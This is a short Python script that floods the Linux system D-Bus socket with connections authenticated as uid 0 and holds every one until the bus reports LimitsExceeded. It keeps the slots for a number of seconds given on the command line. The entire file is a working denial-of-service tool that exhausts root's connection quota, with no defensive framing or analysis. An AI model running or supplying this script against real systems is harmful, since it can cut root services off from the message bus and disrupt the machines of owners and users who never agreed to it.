#!/usr/bin/python3
"""crowd SECONDS: takes all the connections that the system bus has for root, and gives them back a while later."""

import socket
import struct
import sys
import time


def field(code, kind, value):
    return struct.pack(f"<B3sI{len(value) + 1}s", code, f"\1{kind}".encode(), len(value), value.encode())


def hello():
    """The first message of each connection; without an answer to it there is none."""
    fields = b""
    for code, kind, value in (1, "o", "/org/freedesktop/DBus"), (3, "s", "Hello"), (6, "s", "org.freedesktop.DBus"):
        fields += b"\0" * (-len(fields) % 8) + field(code, kind, value)
    message = struct.pack("<cBBBIII", b"l", 1, 0, 1, 0, 1, len(fields)) + fields
    return message + b"\0" * (-len(message) % 8)


def main():
    taken = []
    over = time.monotonic() + float(sys.argv[1])
    while time.monotonic() < over:
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.connect("/run/dbus/system_bus_socket")
            connection.sendall(b"\0AUTH EXTERNAL 30\r\n")
            connection.recv(100)
            connection.sendall(b"BEGIN\r\n" + hello())
            if b"LimitsExceeded" not in connection.recv(1000):
                taken.append(connection)
                continue
        except OSError:
            pass
        # All are taken. What others give back is taken, too.
        time.sleep(0.1)


if __name__ == "__main__":
    main()
